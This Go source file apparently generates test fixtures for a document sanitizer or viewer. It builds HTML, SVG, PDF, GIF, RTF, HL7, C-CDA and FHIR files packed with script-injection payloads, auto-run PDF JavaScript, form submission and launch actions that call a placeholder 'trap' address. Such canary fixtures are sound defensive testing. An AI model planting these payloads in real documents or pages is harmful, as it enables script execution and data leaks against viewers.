package planted

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"strings"
)

// Hostile are files that try to do something when they are looked at: to run a
// program, to open a box, to fetch or to send something. Whatever they reach for is
// at the address of the trap; whatever runs names the page or sets a global "pwned".
func Hostile(trap string) map[string][]byte {
	js := `document.title="pwned";globalThis.pwned=1;try{top.document.title="pwned"}catch(e){};fetch("` + trap + `/js");new Image().src="` + trap + `/img";alert("pwned")`
	html := Page(trap)
	narrative := `<p onclick="` + strings.ReplaceAll(js, `"`, "&quot;") + `">Kept words</p><script>` + js + `</script><img src="` + trap + `/n.png" onerror="alert(1)"/>` +
		`<iframe src="` + trap + `/frame"></iframe><p style="background:url(` + trap + `/css)">More</p><a href="javascript:alert(1)">Link</a>` +
		`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="` + trap + `/svg.png"/></svg><link rel="stylesheet" href="` + trap + `/l.css"/><style>@import url(` + trap + `/i.css)</style>`
	svg := `<svg xmlns="http://www.w3.org/2000/svg" onload='` + js + `'><script>` + js + `</script><image href="` + trap + `/x.png"/><text>Kept</text></svg>`
	pdf := PDF("Kept words of a page", trap, js)
	all := map[string][]byte{
		"script.pdf":       pdf,
		"plain-first.pdf":  append([]byte("<html><script>"+js+"</script>\n"), pdf...),
		"page.html":        []byte(html),
		"page-named.pdf":   []byte(html + "<!-- pdf -->"),
		"page-named.png":   []byte(html + "<!-- png -->"),
		"drawing.svg":      []byte(svg),
		"drawing-xml.svg":  []byte(`<?xml version="1.0"?><?xml-stylesheet href="` + trap + `/s.xsl" type="text/xsl"?>` + svg),
		"gif-script.gif":   append([]byte("GIF89a/*\x01\x00\x01\x00"), []byte("*/=1;"+js+"//<script>"+js+"</script>")...),
		"note.txt":         []byte("<script>" + js + "</script>\nKept words\n<img src=" + trap + "/t.png>\n"),
		"letter.rtf":       []byte(`{\rtf1\ansi Kept words {\field{\*\fldinst HYPERLINK "` + trap + `/rtf"}{\fldrslt <script>` + strings.NewReplacer("{", `\{`, "}", `\}`).Replace(js) + `</script>}}{\object\objdata 00}\par}`),
		"report.hl7":       []byte("MSH|^~\\&|LAB|X|Y|Z|20260101||ORU^R01|1|P|2.5\rPID|||1||Brandt^Walter\rOBR|1|||X^Report\rOBX|1|FT|X^Text||Kept <script>" + strings.ReplaceAll(js, "|", "") + "</script> words\rOBX|2|ED|X^Page||^text^html^Base64^" + base64.StdEncoding.EncodeToString([]byte(html)) + "\r"),
		"ccda.xml":         []byte(ccda(narrative)),
		"ccda-style.xml":   []byte(`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="` + trap + `/cda.xsl"?>` + ccda(narrative)),
		"fhir.json":        fhir(narrative, html, pdf),
		"deep-title.html":  []byte(`<html><title></title><img src=x onerror='` + js + `'><table><tr><td><svg><p><style><!--</style><img src="` + trap + `/m" onerror="alert(1)">Kept`),
		"meta-refresh.htm": []byte(`<html><meta http-equiv="refresh" content="0;url=` + trap + `/refresh"><base href="` + trap + `/"><p>Kept</p>`),
	}
	var z bytes.Buffer
	w := zip.NewWriter(&z)
	for _, name := range []string{"script.pdf", "page.html", "ccda.xml", "drawing.svg"} {
		f, _ := w.Create("inside/" + name)
		_, _ = f.Write(all[name])
	}
	_ = w.Close()
	all["pack.zip"] = z.Bytes()
	return all
}

// Page is a web page that runs what it can.
func Page(trap string) string {
	return `<html><head><title>x</title><script>document.title="pwned";globalThis.pwned=1;fetch("` + trap + `/page")</script></head>` +
		`<body onload="globalThis.pwned=2"><img src="` + trap + `/page.png"><iframe src="` + trap + `/page-frame"></iframe><p>Kept words</p></body></html>`
}

func ccda(narrative string) string {
	return `<ClinicalDocument xmlns="urn:hl7-org:v3"><title>Note</title><recordTarget><patientRole><patient><name><given>Walter</given><family>Brandt</family></name><birthTime value="19560819"/></patient></patientRole></recordTarget>` +
		`<component><structuredBody><component><section><title>Plan &lt;script&gt;alert(1)&lt;/script&gt;</title><text><paragraph styleCode="Bold">Kept words</paragraph>` + narrative +
		`<linkHtml href="javascript:alert(1)">Link</linkHtml><renderMultiMedia referencedObject="x"/><table onload="alert(1)"><tbody><tr><td style="x">Cell</td></tr></tbody></table></text></section></component></structuredBody></component></ClinicalDocument>`
}

func fhir(narrative, html string, pdf []byte) []byte {
	b, _ := json.Marshal(map[string]any{
		"resourceType": "DiagnosticReport", "id": "r", "status": "final", "code": map[string]any{"text": "Report <img src=x onerror=alert(1)>"},
		"text": map[string]any{"status": "generated", "div": `<div xmlns="http://www.w3.org/1999/xhtml">` + narrative + `</div>`},
		"presentedForm": []map[string]any{
			{"contentType": "text/html", "title": "Page", "data": base64.StdEncoding.EncodeToString([]byte(html))},
			{"contentType": "application/pdf", "data": base64.StdEncoding.EncodeToString(pdf)},
		},
	})
	return b
}

// PDF is a PDF of one page that says the words, with a script that is to run when it
// opens, one for its page, a form that sends itself, and links that lead out.
func PDF(words, trap, js string) []byte {
	esc := strings.NewReplacer(`\`, `\\`, "(", `\(`, ")", `\)`).Replace
	script := "<< /S /JavaScript /JS (" + esc("app.alert('pwned');app.launchURL('"+trap+"/launch');this.submitForm('"+trap+"/submit');"+js) + ") >>"
	page := "BT /F1 18 Tf 72 700 Td (" + esc(words) + ") Tj ET"
	objects := []string{
		"<< /Type /Catalog /Pages 2 0 R /OpenAction " + script + " /Names << /JavaScript << /Names [(a) " + script + "] >> >> /AcroForm << /Fields [6 0 R] /NeedAppearances true >> /URI << /Base (" + trap + "/base) >> >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [6 0 R 7 0 R 8 0 R] /AA << /O " + script + " >> >>",
		fmt.Sprintf("<< /Length %d >>\nstream\n%s\nendstream", len(page), page),
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
		"<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [72 600 200 640] /A << /S /SubmitForm /F (" + trap + "/form) >> /AA << /E " + script + " >> >>",
		"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (" + trap + "/uri) >> >>",
		"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /Launch /F (" + trap + "/launch.exe) >> >>",
	}
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n")
	var at []int
	for i, o := range objects {
		at = append(at, b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	from := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objects)+1)
	for _, n := range at {
		fmt.Fprintf(&b, "%010d 00000 n \n", n)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, from)
	return b.Bytes()
}
